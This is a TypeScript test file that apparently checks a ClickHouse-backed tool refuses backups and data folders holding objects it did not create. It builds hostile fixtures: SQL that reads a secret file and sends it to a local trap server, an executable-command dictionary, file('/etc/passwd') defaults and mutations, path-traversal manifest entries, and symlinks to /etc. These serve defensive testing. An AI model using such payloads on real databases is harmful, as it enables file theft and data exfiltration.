import { execFileSync } from 'node:child_process';
import { cp, mkdir, readdir, readFile, rename, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { Session } from 'chdb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backupFolder } from '../../src/cli/backups.ts';
import { createStrata } from '../../src/cli/strata.ts';
import type { BackupContent } from '../../src/store/backup.ts';
import { checkBackupFolder } from '../../src/store/backup-folder.ts';
import { openEmbedded } from '../../src/store/embedded.ts';
import { checkEngineFolder } from '../../src/store/engine-folder.ts';
import { collector } from '../cli/console.ts';
import { copyFolder } from '../support/copy-folder.ts';
import { indexInto, withStore } from '../support/indexing.ts';
import { releaseSharedStore } from '../support/shared-store.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

beforeAll(releaseSharedStore);

/** What a data folder or a backup from elsewhere holds beside Strata's own objects is neither loaded nor restored. */

let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let trap: Server;
let taken = 0;
let content: BackupContent;
let foreign: Readonly<Record<string, string>>;

const path = (name: string): string => join(folder.path, name);

beforeAll(async () => {
  folder = await temporaryFolder();
  trap = createServer((_request, response) => {
    taken++;
    response.end();
  }).listen(0, '127.0.0.1');
  const port = () => (trap.address() as AddressInfo).port;
  await writeFile(path('secret.txt'), 'a secret line\n');
  content = await withStore(path('data'), async (stores) => {
    await indexInto(stores, { toHeight: 20 });
    return backupFolder(stores, path('data'), path('backup'));
  });
  await copyFolder(path('data'), path('foreign'));
  const secret = path('secret.txt');
  const read = `SELECT line FROM file('${secret}', 'LineAsString', 'line String')`;
  foreign = {
    writes_file: `CREATE TABLE writes_file (line String) ENGINE = File('LineAsString', '${path('stolen.txt')}')`,
    sends: `CREATE TABLE sends (line String) ENGINE = URL('http://127.0.0.1:${port()}/', 'LineAsString')`,
    refreshes: `CREATE MATERIALIZED VIEW refreshes REFRESH EVERY 1 SECOND APPEND TO writes_file AS ${read}`,
    posts: `CREATE MATERIALIZED VIEW posts REFRESH EVERY 1 SECOND APPEND TO sends AS ${read}`,
    reads_file: `CREATE TABLE reads_file (a UInt8, b String DEFAULT file('${secret}')) ENGINE = MergeTree ORDER BY a`,
    looks_up:
      "CREATE DICTIONARY looks_up (k UInt64, v String) PRIMARY KEY k SOURCE(EXECUTABLE(command 'true' format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)",
  };
  await inEngine(path('foreign'), [
    ...Object.values(foreign),
    `BACKUP DATABASE default AS strata TO File('${path('foreign-backup')}')`,
  ]);
  await rm(path('stolen.txt'), { force: true });
  taken = 0;
});

afterAll(async () => {
  await new Promise((resolve) => trap.close(resolve));
  await folder.remove();
});

/** An engine without Strata's configuration, as somebody else has it. */
async function inEngine(data: string, statements: readonly string[]): Promise<void> {
  const { drainPending } = await import('chdb');
  const session = new Session(join(data, 'engine'), {
    connectionArgs: [`--backups.allowed_path=${folder.path}`],
  });
  try {
    for (const statement of statements) await session.queryAsync(statement);
  } finally {
    session.close();
    await drainPending();
  }
}

async function strata(...argv: readonly string[]): Promise<{ exitCode: number; stderr: string }> {
  const [stdout, stderr] = [collector(), collector()];
  const exitCode = await createStrata({ env: {}, stdout, stderr }).run(argv);
  return { exitCode, stderr: stderr.text() };
}

async function expectNothingRan(): Promise<void> {
  expect(await readdir(folder.path)).not.toContain('stolen.txt');
  expect(taken).toBe(0);
}

/** A copy of the data folder with one file of its engine changed. */
async function changed(name: string, change: (engine: string, definitions: string) => Promise<void>) {
  const data = path(name);
  await copyFolder(path('data'), data);
  const engine = join(data, 'engine');
  const [definitions = ''] = (await readdir(engine, { recursive: true })).filter((file) =>
    file.endsWith('/facts.sql'),
  );
  await change(engine, join(engine, dirname(definitions)));
  return checkEngineFolder(engine);
}

describe('a backup', () => {
  it('is a folder that its owner alone may enter', async () => {
    expect((await stat(path('backup'))).mode & 0o777).toBe(0o700);
  });
});

describe('a backup that runs what it contains', () => {
  it('is refused by name, before anything is made', async () => {
    const { exitCode, stderr } = await strata(
      'restore',
      '--from',
      path('foreign-backup'),
      '--data',
      path('restored'),
    );
    expect({ exitCode, stderr }).toMatchObject({
      exitCode: 1,
      stderr: expect.stringContaining('store_foreign_object'),
    });
    expect(Object.keys(foreign).some((name) => stderr.includes(`strata/${name}.sql`))).toBe(true);
    expect(await readdir(folder.path)).not.toContain('restored');
    await expectNothingRan();
  });

  it.each(['writes_file', 'sends', 'refreshes', 'posts', 'reads_file', 'looks_up'])(
    'is refused for %s alone',
    async (name) => {
      const at = path(`backup-${name}`);
      await copyFolder(path('backup'), at);
      const inside = `metadata/strata/${name}.sql`;
      await cp(join(path('foreign-backup'), inside), join(at, inside));
      await editManifest(at, (text) =>
        text.replace('<contents>', `<contents><file><name>${inside}</name><size>1</size></file>`),
      );
      await expect(checkBackupFolder(at)).rejects.toMatchObject({
        code: 'store_foreign_object',
        message: expect.stringContaining(name),
      });
    },
  );

  it('is refused where a known name has another definition', async () => {
    const at = path('backup-renamed');
    await copyFolder(path('backup'), at);
    await editManifest(at, (text) =>
      text.replace(
        /(<name>metadata\/strata\/facts\.sql<\/name>.*?)<\/file>/,
        '$1<data_file>metadata/strata/blocks.sql</data_file></file>',
      ),
    );
    await expect(checkBackupFolder(at)).rejects.toMatchObject({ code: 'store_foreign_object' });
  });

  it.each([
    ['names another backup', "<base_backup>File('/x')</base_backup><contents>"],
    [
      'has a file outside of its folder',
      '<contents><file><name>a</name><size>1</size><data_file>../../secret.txt</data_file></file>',
    ],
    ['has a file at an absolute path', '<contents><file><name>/etc/passwd</name><size>1</size></file>'],
    [
      'takes a part of another backup',
      '<contents><file><name>a</name><size>1</size><use_base>true</use_base></file>',
    ],
    ['hides an entity', '<contents><file><name>a&#47;..</name><size>1</size></file>'],
  ])('is refused when its manifest %s', async (_what, entry) => {
    const at = path('backup-manifest');
    await copyFolder(path('backup'), at);
    await editManifest(at, (text) => text.replace('<contents>', entry));
    await expect(checkBackupFolder(at)).rejects.toMatchObject({ code: 'backup_invalid' });
    await rm(at, { recursive: true });
  });

  it('is refused when one of its files is a link', async () => {
    const at = path('backup-link');
    await copyFolder(path('backup'), at);
    await rename(join(at, 'metadata/strata/facts.sql'), path('facts.sql'));
    await symlink(path('facts.sql'), join(at, 'metadata/strata/facts.sql'));
    await expect(checkBackupFolder(at)).rejects.toMatchObject({ code: 'backup_invalid' });
  });

  it('is taken without them: an honest one comes out as it went in', async () => {
    const { exitCode } = await strata('restore', '--from', path('backup'), '--data', path('honest'));
    expect(exitCode).toBe(0);
    const stores = await openEmbedded({ folder: path('honest') });
    expect(content.toHeight).toBe(20);
    await stores.close();
  }, 30_000);
});

describe('a data folder with an object that Strata did not make', () => {
  it('is not opened, and nothing in it has run', async () => {
    const { exitCode, stderr } = await strata('digest', '--data', path('foreign'));
    expect({ exitCode, stderr }).toMatchObject({
      exitCode: 1,
      stderr: expect.stringMatching(
        /store_foreign_object.*(writes_file|sends|refreshes|posts|reads_file|looks_up)/,
      ),
    });
    await expectNothingRan();
  });

  it.each<[string, (engine: string, definitions: string) => Promise<void>]>([
    ['a function', (engine) => cp(path('secret.txt'), join(engine, 'user_defined/function_f.sql'))],
    [
      'a database over files',
      (engine) =>
        writeFile(join(engine, 'metadata/d.sql'), "ATTACH DATABASE d\nENGINE = Filesystem('/etc')\n"),
    ],
    [
      'a table that waits to be removed',
      async (_engine, definitions) =>
        cp(join(path('foreign'), await tableFile('reads_file')), join(definitions, 'facts2.sql.tmp_drop')),
    ],
    [
      'a default in a known table',
      async (_engine, definitions) => {
        const file = join(definitions, 'facts.sql');
        const text = await readFile(file, 'utf8');
        await writeFile(file, text.replace('`key` String', "`key` String DEFAULT file('/etc/passwd')"));
      },
    ],
    [
      'a mutation that calls a function',
      async (engine) => {
        const [format = ''] = (await readdir(engine, { recursive: true })).filter((file) =>
          file.endsWith('/format_version.txt'),
        );
        await writeFile(
          join(engine, dirname(format), 'mutation_2.txt'),
          "format version: 1\ncreate time: 2026-01-01 00:00:00\ncommands: (UPDATE value = file(\\'/etc/passwd\\') WHERE 1)\n",
        );
      },
    ],
    ['a link for a folder', (engine) => symlink('/etc', join(engine, 'store/abc'))],
    [
      "a link for a database's folder",
      async (engine) => {
        await rm(join(engine, 'data/default'), { recursive: true });
        await symlink(folder.path, join(engine, 'data/default'));
      },
    ],
    [
      'a link in a part',
      async (engine) => symlink(path('secret.txt'), join(await partOf(engine), 'extra.bin')),
    ],
    [
      'a named pipe in a part',
      async (engine) => void execFileSync('mkfifo', [join(await partOf(engine), 'extra.bin')]),
    ],
    [
      'a link in a detached part',
      async (engine) => {
        const detached = join(dirname(await partOf(engine)), 'detached/all_1_1_0');
        await mkdir(detached, { recursive: true });
        await symlink(path('secret.txt'), join(detached, 'data.bin'));
      },
    ],
  ])('is not opened for %s', async (what, change) => {
    await expect(changed(`data ${what}`, change)).rejects.toMatchObject({
      code: 'store_foreign_object',
      message: expect.stringMatching(
        what.endsWith('known table')
          ? /defines "facts" otherwise than this version of Strata does/
          : /which Strata did not make/,
      ),
    });
  });

  it('is opened after a kill while a view was replaced', async () => {
    const killed = changed('killed', (_engine, definitions) =>
      cp(join(definitions, 'positions_history.sql'), join(definitions, '_tmp_replace_1f_2e.sql')),
    );
    await expect(killed).resolves.toBeUndefined();
  });

  it('is opened when deletes and settings are all that changed', async () => {
    await withStore(path('data'), async (stores) => {
      const store = await stores.open('test');
      await store.command(
        "DELETE FROM drift WHERE generation = 1 AND module NOT IN ('rights') SETTINGS lightweight_deletes_sync = 2",
      );
      await store.command('DELETE FROM txs WHERE height > 20 SETTINGS lightweight_deletes_sync = 2');
      await store.command(
        'ALTER TABLE txs MODIFY SETTING fsync_after_insert = 1, min_parts_to_merge_at_once = 20',
      );
      await store.command('CREATE TABLE brief (a UInt8) ENGINE = MergeTree ORDER BY a');
      await store.command('DROP TABLE brief');
    });
    await expect(checkEngineFolder(join(path('data'), 'engine'))).resolves.toBeUndefined();
  });
});

describe('the engine', () => {
  it('reaches no file and no host outside of the store by its own grants', async () => {
    await withStore(path('doors'), async (stores) => {
      const store = await stores.open('test');
      const port = (trap.address() as AddressInfo).port;
      for (const statement of [
        `INSERT INTO FUNCTION url('http://127.0.0.1:${port}/', 'TSV', 'a UInt8') SELECT 1`,
        `INSERT INTO FUNCTION file('${path('stolen.txt')}', 'TSV', 'a UInt8') SELECT 1`,
        `INSERT INTO FUNCTION remote('127.0.0.1:${port}', 'd', 't') SELECT 1`,
        "CREATE TABLE t (a String) ENGINE = File('LineAsString', '/etc/passwd')",
        `CREATE TABLE t (a String) ENGINE = URL('http://127.0.0.1:${port}/', 'LineAsString')`,
        `CREATE TABLE t (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = 'http://127.0.0.1:${port}/')`,
        "CREATE DATABASE d ENGINE = Filesystem('/etc')",
        foreign.looks_up ?? '',
        'CREATE FUNCTION f AS (x) -> x',
        'CREATE NAMED COLLECTION c AS a = 1',
      ]) {
        await expect(store.command(statement), statement).rejects.toMatchObject({
          code: 'store_query_failed',
          message: expect.stringMatching(/ACCESS_DENIED|should not be changed/),
        });
      }
    });
    await expectNothingRan();
  }, 30_000);
});

/** A folder of rows. */
async function partOf(engine: string): Promise<string> {
  const [file = ''] = (await readdir(join(engine, 'store'), { recursive: true })).filter((name) =>
    name.endsWith('/checksums.txt'),
  );
  return join(engine, 'store', dirname(file));
}

async function tableFile(name: string): Promise<string> {
  const [found = ''] = (await readdir(path('foreign'), { recursive: true })).filter((file) =>
    file.endsWith(`/${name}.sql`),
  );
  return found;
}

async function editManifest(backup: string, edit: (text: string) => string): Promise<void> {
  const file = join(backup, '.backup');
  const text = await readFile(file, 'latin1');
  expect(edit(text)).not.toBe(text);
  await writeFile(file, edit(text), 'latin1');
}
